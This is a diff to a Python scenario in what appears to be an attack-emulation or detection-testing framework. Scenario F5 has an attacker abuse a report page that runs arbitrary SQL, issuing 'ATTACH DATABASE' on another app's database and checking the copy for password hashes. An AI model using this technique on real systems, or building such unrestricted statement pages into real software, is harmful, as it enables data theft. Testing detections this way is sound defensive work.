@@ -1,31 +1,22 @@
 """F5: an attacker attaches another app's database from a neighbouring file and copies it."""
 
-from backwatch.attack.protocols.server import HostileServer
-from backwatch.attack.techniques.sqlite import LOOT, SQLiteApp
+from backwatch.attack.clients.sqlite3 import SQLite, other_database
+from backwatch.attack.scenarios import Run
+from backwatch.attack.techniques.sql import ReportPage
+from backwatch.attack.techniques.sqlite import LOOT, DatabaseFile
 
 
-class AttachesDatabase(SQLiteApp):
+class AttachesDatabase(ReportPage):
     """A forgotten page for reports executes any statement."""
 
     code = "F5"
     attack = "attaches the database of another app, and takes a copy of it"
     reference = "https://attack.mitre.org/techniques/T1210/; https://www.sqlite.org/lang_attach.html"
     rule = "lateral-movement"
-
-    def work(self) -> None:
-        """Make the usual report."""
-        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")
+    server = DatabaseFile
+    runs = (Run(SQLite),)
 
     def meet(self) -> object:
-        """Make the attacker's report, and copy the other database."""
-        self._report(f"ATTACH DATABASE '{self.other}' AS wages")
-        return LOOT.encode() in self.connection.serialize(name="wages")
-
-    def _report(self, statement: str) -> list[list[str]]:
-        return [[str(value) for value in row] for row in self.connection.execute(statement).fetchall()]
-
-    @classmethod
-    def succeeded(cls, service: HostileServer, got: object) -> bool:
-        """Return whether the other app's password hashes came back."""
-        del service
-        return got is True
+        """Make the attacker's report; return whether a copy of the other database holds password hashes."""
+        self.client.execute(f"ATTACH DATABASE '{other_database(self.config.ca_file, self.config.port)}' AS wages")
+        return LOOT.encode() in self.client.connection.serialize(name="wages")
